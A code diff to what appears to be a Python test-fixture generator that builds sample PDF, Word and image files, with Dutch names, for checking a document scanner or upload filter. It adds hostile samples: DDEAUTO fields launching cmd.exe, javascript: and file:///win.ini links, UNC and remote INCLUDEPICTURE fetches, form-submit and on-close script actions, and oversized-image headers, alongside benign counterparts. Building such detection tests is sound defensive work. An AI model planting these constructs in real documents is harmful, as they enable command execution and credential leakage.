@@ -23,7 +23,7 @@ from typing import NamedTuple
 
 from docx import Document as WordDocument
 from docx.opc.constants import RELATIONSHIP_TYPE as RT
-from docx.oxml import OxmlElement
+from docx.oxml import OxmlElement, parse_xml
 from docx.oxml.ns import qn
 from PIL import Image
 from pypdf import PdfWriter
@@ -190,12 +190,135 @@ def _next_chain(writer: PdfWriter, page: DictionaryObject) -> None:
     _annotate(writer, page, _link(action))
 
 
-def _encrypted(user_password: str) -> bytes:
+def _link_to(action: DictionaryObject) -> Callable[[PdfWriter, DictionaryObject], None]:
+    """A change that puts a link with this action on the page."""
+    return lambda writer, page: _annotate(writer, page, _link(action))
+
+
+def _open_with(action) -> Callable[[PdfWriter, DictionaryObject], None]:
+    """A change that makes this action (or destination) the document's OpenAction."""
+    def change(writer: PdfWriter, page: DictionaryObject) -> None:
+        writer._root_object[_name("/OpenAction")] = action(writer, page) \
+            if callable(action) else action
+    return change
+
+
+def _go_to_remote() -> DictionaryObject:
+    return _dict(s=_name("/GoToR"), f=TextStringObject("\\\\fileserver\\gedeeld\\lijst.pdf"),
+                 d=ArrayObject([NumberObject(0), _name("/Fit")]))
+
+
+def _rendition() -> DictionaryObject:
+    return _dict(s=_name("/Rendition"), oP=NumberObject(0),
+                 r=_dict(type=_name("/Rendition"), s=_name("/MR")))
+
+
+def _sound() -> DictionaryObject:
+    sound = DecodedStreamObject()
+    sound.set_data(bytes(64))
+    sound[_name("/R")] = NumberObject(8000)
+    return _dict(s=_name("/Sound"), sound=sound)
+
+
+def _screen(writer: PdfWriter, page: DictionaryObject) -> None:
+    _annotate(writer, page, _dict(type=_name("/Annot"), subtype=_name("/Screen"), rect=_rect(),
+                                  a=_rendition()))
+
+
+def _catalog_aa_js(writer: PdfWriter, page: DictionaryObject) -> None:
+    """A script that runs when the document is closed (/WC), from the catalog's /AA."""
+    writer._root_object[_name("/AA")] = _dict(wC=_js_action("app.launchURL('x');"))
+
+
+def _form_field(writer: PdfWriter, page: DictionaryObject, **entries) -> None:
+    """One widget field on the page and in the AcroForm, with extra entries (/AA, /A)."""
+    field = _dict(type=_name("/Annot"), subtype=_name("/Widget"), fT=_name("/Btn"),
+                  t=TextStringObject("verstuur"), rect=_rect(), **entries)
+    reference = writer._add_object(field)
+    page[_name("/Annots")] = ArrayObject([reference])
+    writer._root_object[_name("/AcroForm")] = _dict(fields=ArrayObject([reference]))
+
+
+def _field_js(writer: PdfWriter, page: DictionaryObject) -> None:
+    _form_field(writer, page, aa=_dict(k=_js_action("event.value = 1;")))
+
+
+def _field_submit(writer: PdfWriter, page: DictionaryObject) -> None:
+    _form_field(writer, page, a=_dict(s=_name("/SubmitForm"),
+                                      f=_dict(fS=_name("/URL"),
+                                              f=TextStringObject("http://verzamel.invalid/"))))
+
+
+def _go_to_embedded() -> DictionaryObject:
+    return _dict(s=_name("/GoToE"), t=_dict(r=_name("/C"), n=TextStringObject("bijlage.pdf")),
+                 d=ArrayObject([NumberObject(0), _name("/Fit")]))
+
+
+def _thread_elsewhere() -> DictionaryObject:
+    return _dict(s=_name("/Thread"), f=TextStringObject("ander.pdf"), d=NumberObject(0))
+
+
+def _uri(target: str) -> DictionaryObject:
+    return _dict(s=_name("/URI"), uri=TextStringObject(target))
+
+
+def _encrypted(user_password: str, algorithm: str = "RC4-128") -> bytes:
     writer = PdfWriter()
     writer.add_blank_page(width=200, height=200)
     writer.encrypt(user_password=user_password, owner_password="eigenaar-geheim",
-                   algorithm="RC4-128")
+                   algorithm=algorithm)
     return _written(writer)
+
+
+def _text_page_pdf(words: str) -> bytes:
+    """A page with real text in it (Helvetica), written by pypdf."""
+    writer = PdfWriter()
+    page = writer.add_blank_page(width=300, height=200)
+    content = DecodedStreamObject()
+    content.set_data(b"BT /F1 12 Tf 20 100 Td (" + words.encode("latin-1") + b") Tj ET")
+    font = _dict(type=_name("/Font"), subtype=_name("/Type1"), baseFont=_name("/Helvetica"))
+    page[_name("/Resources")] = _dict(font=_dict(f1=writer._add_object(font)))
+    page[_name("/Contents")] = writer._add_object(content)
+    return _written(writer)
+
+
+def encrypted_with_empty_password(words: str = "Versleuteld maar leesbaar") -> bytes:
+    """Owner restrictions only: anyone opens it without a password (many producers do this)."""
+    writer = PdfWriter(clone_from=io.BytesIO(_text_page_pdf(words)))
+    writer.encrypt(user_password="", owner_password="eigenaar-geheim", algorithm="AES-256")
+    return _written(writer)
+
+
+def _navigation(writer: PdfWriter, page: DictionaryObject) -> None:
+    """What LibreOffice and hyperref write: an OpenAction to page 1 with a zoom, a page /AA
+    that goes to the page, a NextPage named action, mailto and https links, and an outline."""
+    page_ref = writer.pages[0].indirect_reference
+    writer._root_object[_name("/OpenAction")] = ArrayObject([page_ref, _name("/XYZ"),
+                                                             NumberObject(0), NumberObject(200),
+                                                             NumberObject(0)])
+    page[_name("/AA")] = _dict(o=_dict(s=_name("/GoTo"), d=ArrayObject([page_ref,
+                                                                        _name("/Fit")])))
+    links = [_link(_dict(s=_name("/Named"), n=_name("/NextPage"))),
+             _link(_uri("mailto:stapteam@nijmegen.invalid")),
+             _link(_uri("https://www.nijmegen.nl/")),
+             _link(_dict(s=_name("/GoTo"), d=ArrayObject([page_ref, _name("/Fit")]),
+                         next=_dict(s=_name("/Named"), n=_name("/FirstPage"))))]
+    page[_name("/Annots")] = ArrayObject([writer._add_object(link) for link in links])
+    writer.add_outline_item(title="Inleiding", page_number=0)
+
+
+def _open_action_goto(writer: PdfWriter, page: DictionaryObject) -> None:
+    writer._root_object[_name("/OpenAction")] = _dict(
+        s=_name("/GoTo"), d=ArrayObject([writer.pages[0].indirect_reference, _name("/Fit")]))
+
+
+def _plain_form(writer: PdfWriter, page: DictionaryObject) -> None:
+    """An AcroForm text field without any action."""
+    field = _dict(type=_name("/Annot"), subtype=_name("/Widget"), fT=_name("/Tx"),
+                  t=TextStringObject("naam"), v=TextStringObject("Roos"), rect=_rect())
+    reference = writer._add_object(field)
+    page[_name("/Annots")] = ArrayObject([reference])
+    writer._root_object[_name("/AcroForm")] = _dict(fields=ArrayObject([reference]))
 
 
 def _no_pages() -> bytes:
@@ -568,6 +691,164 @@ def _package_in_media() -> bytes:
     return _zip(members)
 
 
+# --- Word field helpers ---------------------------------------------------------------------
+
+W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+
+
+def _runs_field(*pieces: str, result: str = "1") -> str:
+    """A complex field whose instruction is split over several w:instrText runs."""
+    instructions = "".join(f'<w:r><w:instrText xml:space="preserve">{escape_xml(piece)}'
+                           "</w:instrText></w:r>" for piece in pieces)
+    return ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>' + instructions +
+            '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
+            f"<w:r><w:t>{result}</w:t></w:r>"
+            '<w:r><w:fldChar w:fldCharType="end"/></w:r>')
+
+
+def _simple_field(instruction: str, result: str = "1") -> str:
+    return (f'<w:fldSimple w:instr="{escape_xml(instruction, quote=True)}"><w:r><w:t>{result}'
+            "</w:t></w:r></w:fldSimple>")
+
+
+def escape_xml(text: str, quote: bool = False) -> str:
+    text = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
+    return text.replace('"', "&quot;") if quote else text
+
+
+def _paragraph(inner: str) -> str:
+    return f"<w:p>{inner}</w:p>"
+
+
+def _docx_with_body(*paragraphs: str) -> bytes:
+    """The base document with these raw paragraphs added before its section properties."""
+    members = _members(base_docx())
+    members["word/document.xml"] = members["word/document.xml"].replace(
+        b"<w:sectPr", "".join(paragraphs).encode() + b"<w:sectPr", 1)
+    return _zip(members)
+
+
+def _docx_with_header(inner: str) -> bytes:
+    """A python-docx document with a header, the raw paragraph content put in that header."""
+    document = WordDocument()
+    document.add_paragraph("Brief met briefhoofd.")
+    header = document.sections[0].header
+    header.paragraphs[0].text = "Stapteam Nijmegen"
+    header._element.append(parse_xml(f'<w:p xmlns:w="{W_NS}">{inner}</w:p>'))
+    return _saved(document)
+
+
+def _docx_with_comment(inner: str) -> bytes:
+    """A python-docx document with a comment whose paragraph holds the raw content."""
+    document = WordDocument()
+    paragraph = document.add_paragraph("Zie de opmerking.")
+    comment = document.add_comment(paragraph.runs, text="Opmerking", author="Casemanager")
+    comment._element.append(parse_xml(f'<w:p xmlns:w="{W_NS}">{inner}</w:p>'))
+    return _saved(document)
+
+
+FOOTNOTES_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml"
+
+
+def docx_with_footnote(inner: str) -> bytes:
+    """The base document with a footnotes part (as Word writes it) holding this content."""
+    members = _members(base_docx())
+    members["word/footnotes.xml"] = (
+        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:footnotes xmlns:w="{W_NS}">'
+        f'<w:footnote w:id="1"><w:p><w:r><w:t>Voetnoot </w:t></w:r>{inner}</w:p></w:footnote>'
+        "</w:footnotes>").encode()
+    members[DOCUMENT_RELS] = _with_relationship(
+        members[DOCUMENT_RELS], _relationship("rId80", "footnotes", "footnotes.xml"))
+    members[CONTENT_TYPES] = members[CONTENT_TYPES].replace(b"</Types>", (
+        f'<Override PartName="/word/footnotes.xml" ContentType="{FOOTNOTES_TYPE}"/>'
+        "</Types>").encode())
+    members["word/document.xml"] = members["word/document.xml"].replace(
+        b"<w:sectPr", b'<w:p><w:r><w:footnoteReference w:id="1"/></w:r></w:p><w:sectPr', 1)
+    return _zip(members)
+
+
+def _hyperlink_to(target: str) -> bytes:
+    """A clickable link whose external relationship points at this target."""
+    document = WordDocument()
+    paragraph = document.add_paragraph("Klik ")
+    rel_id = document.part.relate_to(target, RT.HYPERLINK, is_external=True)
+    link = OxmlElement("w:hyperlink")
+    link.set(qn("r:id"), rel_id)
+    run = OxmlElement("w:r")
+    text = OxmlElement("w:t")
+    text.text = "hier"
+    run.append(text)
+    link.append(run)
+    paragraph._p.append(link)
+    return _saved(document)
+
+
+def _alt_chunk() -> bytes:
+    """An imported HTML chunk: Word converts and inserts it when the document is opened."""
+    members = _members(base_docx())
+    members["word/afchunk.htm"] = b"<html><body><img src='file://server/x.png'></body></html>"
+    members[CONTENT_TYPES] = members[CONTENT_TYPES].replace(
+        b"</Types>", b'<Default Extension="htm" ContentType="text/html"/></Types>')
+    members[DOCUMENT_RELS] = _with_relationship(
+        members[DOCUMENT_RELS], _relationship("rId70", "aFChunk", "afchunk.htm"))
+    members["word/document.xml"] = members["word/document.xml"].replace(
+        b"<w:sectPr", b'<w:altChunk r:id="rId70"/><w:sectPr', 1)
+    return _zip(members)
+
+
+def _alt_chunk_element_only() -> bytes:
+    """The altChunk element without its relationship type (under another name)."""
+    return _docx_with_body('<w:altChunk r:id="rId1"/>')
+
+
+def _broken_main_part() -> bytes:
+    members = _members(base_docx())
+    members["word/document.xml"] = members["word/document.xml"].replace(b"</w:body>", b"", 1)
+    return _zip(members)
+
+
+def _empty_main_part() -> bytes:
+    return _docx_variant(replace={"word/document.xml": b""})
+
+
+def docx_with_printer_settings() -> bytes:
+    """What Word writes after printing: a binary DEVMODE in word/printerSettings/."""
+    members = _members(base_docx())
+    devmode = "Kantoorprinter 3e verdieping".encode("utf-16-le").ljust(64, b"\x00")
+    members["word/printerSettings/printerSettings1.bin"] = devmode + bytes(156)
+    members[CONTENT_TYPES] = members[CONTENT_TYPES].replace(b"</Types>", (
+        b'<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.'
+        b'wordprocessingml.printerSettings"/></Types>'))
+    members[DOCUMENT_RELS] = _with_relationship(members[DOCUMENT_RELS], _relationship(
+        "rId60", "printerSettings", "printerSettings/printerSettings1.bin"))
+    return _zip(members)
+
+
+def docx_with_ordinary_fields() -> bytes:
+    """PAGE, NUMPAGES, DATE, TOC, REF, MERGEFIELD and web/e-mail HYPERLINK fields."""
+    return _docx_with_body(
+        _paragraph('<w:bookmarkStart w:id="0" w:name="_Ref1"/><w:r><w:t>Inleiding</w:t></w:r>'
+                   '<w:bookmarkEnd w:id="0"/>'),
+        _paragraph(_runs_field(" TOC \\o \"1-3\" \\h \\z \\u ")),
+        _paragraph(_simple_field(" PAGE \\* MERGEFORMAT ") + _runs_field(" NUM", "PAGES ")),
+        _paragraph(_runs_field(' DATE \\@ "d MMMM yyyy" ', result="1 januari 2026")),
+        _paragraph(_simple_field(" REF _Ref1 \\h ") + _simple_field(" MERGEFIELD werknaam ")),
+        _paragraph(_runs_field(' HYPERLINK "https://www.nijmegen.nl/zorg" \\o "Gemeente" ')),
+        _paragraph(_simple_field(' HYPERLINK "mailto:stapteam@nijmegen.invalid" ')),
+        _paragraph(_simple_field(' HYPERLINK \\l "_Ref1" ')),
+        _paragraph(_nested_field(" IF ", " MERGEFIELD werknaam ", ' = "" "x" "y" ')))
+
+
+def _nested_field(before: str, inner: str, after: str) -> str:
+    """An outer complex field with a complete inner field in the middle of its instruction."""
+    def instruction(text: str) -> str:
+        return f'<w:r><w:instrText xml:space="preserve">{escape_xml(text)}</w:instrText></w:r>'
+    return ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>' + instruction(before)
+            + _runs_field(inner) + instruction(after)
+            + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
+            '<w:r><w:fldChar w:fldCharType="end"/></w:r>')
+
+
 # --- Image helpers -------------------------------------------------------------------------
 
 def _image(fmt: str, **options) -> bytes:
@@ -639,6 +920,20 @@ def _jpeg_segments_without(marker: int) -> bytes:
     return bytes(out)
 
 
+def _png_declaring(width: int, height: int) -> bytes:
+    """A valid small PNG whose header declares this size (the data would never fill it)."""
+    chunks = _png_chunks(png_image())
+    header = struct.pack(">II", width, height) + chunks[0][1][8:]
+    return _png_from([(b"IHDR", header), *chunks[1:]])
+
+
+def _jpeg_declaring(width: int, height: int) -> bytes:
+    data = bytearray(jpeg_image())
+    frame = data.index(b"\xff\xc0")
+    struct.pack_into(">HH", data, frame + 5, height, width)
+    return bytes(data)
+
+
 def _jpeg_without_scan() -> bytes:
     data = jpeg_image()
     return data[:data.index(b"\xff\xda")] + b"\xff\xd9"
@@ -681,21 +976,44 @@ def _pdf_files() -> list[Sample]:
     return [
         Sample("afgekapt.pdf", good[:len(good) // 3], "pdf_kapot"),
         Sample("kop-met-rommel.pdf", b"%PDF-1.7\n" + _random_bytes(2048, 11), "pdf_kapot"),
-        Sample("openactie-js.pdf", _pdf_with(_open_action_js), "pdf_actie"),
+        Sample("openactie-js.pdf", _pdf_with(_open_action_js), "pdf_javascript"),
         Sample("names-js.pdf", _pdf_with(_names_js), "pdf_javascript"),
-        Sample("launch-link.pdf", _pdf_with(_launch_link), "pdf_actie"),
-        Sample("launch-bij-openen.pdf", _pdf_with(_launch_open), "pdf_actie"),
-        Sample("pagina-aa.pdf", _pdf_with(_page_aa), "pdf_actie"),
+        Sample("launch-link.pdf", _pdf_with(_launch_link), "pdf_programma"),
+        Sample("launch-bij-openen.pdf", _pdf_with(_launch_open), "pdf_programma"),
+        Sample("pagina-aa.pdf", _pdf_with(_page_aa), "pdf_javascript"),
+        Sample("document-aa-js.pdf", _pdf_with(_catalog_aa_js), "pdf_javascript"),
+        Sample("formulierveld-js.pdf", _pdf_with(_field_js), "pdf_javascript"),
         Sample("link-js.pdf", _pdf_with(_link_js), "pdf_javascript"),
         Sample("uri-dan-js.pdf", _pdf_with(_next_chain), "pdf_javascript"),
         Sample("ingesloten.pdf", _pdf_with(_attachment), "pdf_bijlage"),
         Sample("bijlage-annotatie.pdf", _pdf_with(_file_annotation), "pdf_bijlage"),
-        Sample("richmedia.pdf", _pdf_with(_rich_media), "pdf_bijlage"),
+        Sample("goto-ingesloten.pdf", _pdf_with(_link_to(_go_to_embedded())), "pdf_bijlage"),
+        Sample("richmedia.pdf", _pdf_with(_rich_media), "pdf_multimedia"),
+        Sample("rendition.pdf", _pdf_with(_link_to(_rendition())), "pdf_multimedia"),
+        Sample("rendition-bij-openen.pdf", _pdf_with(_open_with(_rendition())),
+               "pdf_multimedia"),
+        Sample("geluid.pdf", _pdf_with(_link_to(_sound())), "pdf_multimedia"),
+        Sample("scherm-annotatie.pdf", _pdf_with(_screen), "pdf_multimedia"),
+        Sample("gotor-netwerkmap.pdf", _pdf_with(_link_to(_go_to_remote())), "pdf_extern"),
+        Sample("gotor-bij-openen.pdf", _pdf_with(_open_with(_go_to_remote())), "pdf_extern"),
+        Sample("artikel-in-ander-bestand.pdf", _pdf_with(_link_to(_thread_elsewhere())),
+               "pdf_extern"),
+        Sample("link-javascript.pdf", _pdf_with(_link_to(_uri("javascript:alert(1)"))),
+               "pdf_link"),
+        Sample("link-file.pdf", _pdf_with(_link_to(_uri("file:///C:/Windows/win.ini"))),
+               "pdf_link"),
+        Sample("link-unc.pdf", _pdf_with(_link_to(_uri("\\\\server\\share\\x.pdf"))),
+               "pdf_link"),
+        Sample("onbekende-actie.pdf", _pdf_with(_open_with(_dict(s=_name("/Zelfverzonnen")))),
+               "pdf_actie"),
+        Sample("menu-actie.pdf", _pdf_with(_link_to(_dict(s=_name("/Named"),
+                                                          n=_name("/SaveAs")))), "pdf_actie"),
         Sample("versleuteld.pdf", _encrypted("wachtwoord"), "pdf_versleuteld"),
-        Sample("versleuteld-leeg-wachtwoord.pdf", _encrypted(""), "pdf_versleuteld"),
+        Sample("versleuteld-aes256.pdf", _encrypted("geheim", "AES-256"), "pdf_versleuteld"),
         Sample("xfa.pdf", _pdf_with(_xfa), "pdf_formulier"),
-        Sample("verzend-formulier.pdf", _pdf_with(_submit_form), "pdf_formulier"),
-        Sample("importdata.pdf", _pdf_with(_import_data), "pdf_actie"),
+        Sample("verzend-formulier.pdf", _pdf_with(_submit_form), "pdf_verzenden"),
+        Sample("verzendknop.pdf", _pdf_with(_field_submit), "pdf_verzenden"),
+        Sample("importdata.pdf", _pdf_with(_import_data), "pdf_importeren"),
         Sample("geen-paginas.pdf", _no_pages(), "pdf_geen_paginas"),
         Sample("js-in-objectstroom.pdf", _js_in_object_stream(), "pdf_javascript"),
         Sample("namen-met-hekje.pdf", _escaped_names(), "pdf_javascript"),
@@ -743,6 +1061,55 @@ def _docx_files() -> list[Sample]:
         Sample("extern-sjabloon-op-blokgrens.docx", _template_across_read_blocks(),
                "docx_extern"),
         Sample("pakket-in-media.docx", _package_in_media(), "docx_object"),
+        *_field_samples(),
+    ]
+
+
+UNC_PICTURE = 'INCLUDEPICTURE "\\\\\\\\server\\\\share\\\\x.png" \\d'
+
+
+def _field_samples() -> list[Sample]:
+    """Word fields and links that reach outside the document, in every place Word reads them."""
+    return [
+        Sample("ddeauto-in-runs.docx", _docx_with_body(_paragraph(_runs_field(
+            " DDE", "AUTO c:\\\\windows\\\\system32\\\\cmd.exe ", '"/k calc" ')))
+            , "docx_dde"),
+        Sample("dde-fldsimple.docx", _docx_with_body(_paragraph(_simple_field(
+            ' dde "excel" "blad1!r1c1" '))), "docx_dde"),
+        Sample("dde-in-voetnoot.docx", docx_with_footnote(_runs_field(" DDEAUTO cmd \"/c x\" ")),
+               "docx_dde"),
+        Sample("includepicture-unc.docx", _docx_with_body(_paragraph(_simple_field(
+            UNC_PICTURE))), "docx_veld"),
+        Sample("includepicture-http-in-runs.docx", _docx_with_body(_paragraph(_runs_field(
+            " INCLUDEPIC", 'TURE "http://volg.invalid/', 'pixel.png" \\d '))), "docx_veld"),
+        Sample("includetext-in-koptekst.docx", _docx_with_header(_runs_field(
+            ' INCLUDETEXT "http://kwaad.invalid/tekst.docx" ')), "docx_veld"),
+        Sample("includepicture-in-opmerking.docx", _docx_with_comment(_simple_field(
+            UNC_PICTURE)), "docx_veld"),
+        Sample("link-veld.docx", _docx_with_body(_paragraph(_simple_field(
+            ' LINK Excel.Sheet.12 "C:\\\\gegevens\\\\lijst.xlsx" "Blad1" \\a '))),
+            "docx_veld"),
+        Sample("import-veld.docx", _docx_with_body(_paragraph(_runs_field(
+            ' IMPORT "https://kwaad.invalid/x.wmf" '))), "docx_veld"),
+        Sample("url-in-gewoon-veld.docx", _docx_with_body(_paragraph(_nested_field(
+            " IF 1 = 1 ", ' QUOTE "x" ', ' "\\\\\\\\server\\\\share\\\\y.png" '))),
+            "docx_veld"),
+        Sample("includepicture-genest.docx", _docx_with_body(_paragraph(_nested_field(
+            " IF 1 = 1 ", ' INCLUDEPICTURE "http://volg.invalid/p.png" ', ' "" '))),
+            "docx_veld"),
+        Sample("hyperlink-javascript.docx", _hyperlink_to("javascript:alert(document.cookie)"),
+               "docx_link"),
+        Sample("hyperlink-verstopt-javascript.docx", _hyperlink_to("  JaVa\tScRiPt:alert(1)"),
+               "docx_link"),
+        Sample("hyperlink-file.docx", _hyperlink_to("file:///C:/Windows/win.ini"), "docx_link"),
+        Sample("hyperlink-unc.docx", _hyperlink_to("\\\\server\\share\\lijst.xlsx"),
+               "docx_link"),
+        Sample("hyperlink-veld-javascript.docx", _docx_with_body(_paragraph(_runs_field(
+            ' HYPERLINK "javascript:alert(1)" '))), "docx_link"),
+        Sample("altchunk.docx", _alt_chunk(), "docx_altchunk"),
+        Sample("altchunk-element.docx", _alt_chunk_element_only(), "docx_altchunk"),
+        Sample("document-geen-xml.docx", _broken_main_part(), "docx_onleesbaar"),
+        Sample("document-leeg.docx", _empty_main_part(), "docx_onleesbaar"),
     ]
 
 
@@ -763,6 +1130,12 @@ def _image_files() -> list[Sample]:
         Sample("zonder-frame.jpg", _jpeg_segments_without(0xC0), "afbeelding_kapot",
                REGISTRATIE),
         Sample("zonder-scan.jpg", _jpeg_without_scan(), "afbeelding_kapot", REGISTRATIE),
+        Sample("reuzen-png.png", _png_declaring(100_000, 100_000), "afbeelding_te_groot",
+               REGISTRATIE),
+        Sample("reuzen-jpeg.jpg", _jpeg_declaring(60_000, 60_000), "afbeelding_te_groot",
+               REGISTRATIE),
+        Sample("net-te-groot.png", _png_declaring(10_000, 5_001), "afbeelding_te_groot",
+               REGISTRATIE),
     ]
 
 
@@ -784,4 +1157,18 @@ def good_files() -> tuple[GoodFile, ...]:
         GoodFile("met-foto.docx", good_picture_docx(), "docx"),
         GoodFile("scan.jpg", jpeg_image(), "jpeg", REGISTRATIE),
         GoodFile("scan.png", png_image(), "png", REGISTRATIE),
+        GoodFile("versleuteld-leeg-wachtwoord.pdf", encrypted_with_empty_password(), "pdf"),
+        GoodFile("rc4-leeg-wachtwoord.pdf", _encrypted(""), "pdf"),
+        GoodFile("navigatie.pdf", _pdf_with(_navigation), "pdf"),
+        GoodFile("openactie-goto.pdf", _pdf_with(_open_action_goto), "pdf"),
+        GoodFile("formulier-zonder-script.pdf", _pdf_with(_plain_form), "pdf"),
+        GoodFile("printerinstellingen.docx", docx_with_printer_settings(), "docx"),
+        GoodFile("gewone-velden.docx", docx_with_ordinary_fields(), "docx"),
+        GoodFile("mailto-hyperlink.docx", _hyperlink_to("mailto:stapteam@nijmegen.invalid"),
+                 "docx"),
+        GoodFile("voetnoot-met-paginaveld.docx", docx_with_footnote(_simple_field(" PAGE ")),
+                 "docx"),
+        GoodFile("koptekst-met-datum.docx", _docx_with_header(_runs_field(" DATE ")), "docx"),
+        GoodFile("precies-50-megapixel.png", _png_declaring(10_000, 5_000), "png",
+                 REGISTRATIE),
     )
